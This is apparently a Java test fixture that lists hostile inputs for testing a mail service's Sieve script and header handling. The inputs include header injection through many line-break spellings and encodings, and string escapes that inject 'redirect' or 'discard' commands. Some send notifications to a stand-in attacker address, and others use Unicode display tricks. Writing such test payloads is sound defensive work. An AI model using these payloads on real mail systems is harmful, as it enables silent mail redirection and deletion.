package org.postroom.service.testing;

import java.util.List;

/**
 * Text written to break out of where it is put, as public reports of Sieve and mail-header
 * injection describe it: line breaks in every spelling (CR LF, bare CR or LF, NEL, the Unicode line
 * and paragraph separators, vertical tab, form feed), headers smuggled after them, quotes and
 * backslashes that end a Sieve string early, a multi-line {@code text:} block's end, Sieve's
 * variables (${…}) and comments, encoded words that decode to a line break, and the invisible
 * characters that make text read other than it is. The property tests draw from it beside their
 * random text, and the end-to-end suite compiles the scripts made from it with Pigeonhole.
 */
public final class HostileText {

  private HostileText() {}

  public static final List<String> KNOWN =
      List.of(
          "Hello\r\nBcc: victim@example.org",
          "Hello\nBcc: victim@example.org",
          "Hello\rBcc: victim@example.org",
          "Hello\u0085Bcc: victim@example.org",
          "Hello\u2028Bcc: victim@example.org",
          "Hello\u2029Bcc: victim@example.org",
          "Hello\u000BBcc: victim@example.org",
          "Hello\u000CBcc: victim@example.org",
          "%0d%0aBcc: victim@example.org",
          "=?UTF-8?Q?Hello=0D=0ABcc:_victim@example.org?=",
          "=?UTF-8?B?SGVsbG8NCkJjYzogdmljdGltQGV4YW1wbGUub3Jn?=",
          "\r\n\r\n<html>injected body</html>",
          "Content-Type: text/html\r\n\r\n<script>",
          "\"; redirect \"attacker@example.org\"; keep; #",
          "\" :matches \"*\" { redirect \"attacker@example.org\"; } #",
          "\\\"; discard; #",
          "\\\\\"; discard; #",
          "text:\r\nredirect \"attacker@example.org\";\r\n.\r\n",
          "\r\n.\r\nredirect \"attacker@example.org\";",
          "${1}${2}${subject}",
          "${hex:22}; discard; #",
          "${unicode:0022}; discard;",
          "require \"enotify\"; notify \"mailto:attacker@example.org\";",
          "/* unterminated comment",
          "*/ discard; /*",
          "# comment to the end of the line",
          "\u202Egro.elpmaxe@rekcatta",
          "zero\u200Bwidth\u200Djoiner",
          "\uFEFFbyte order mark",
          "a".repeat(1200));
}
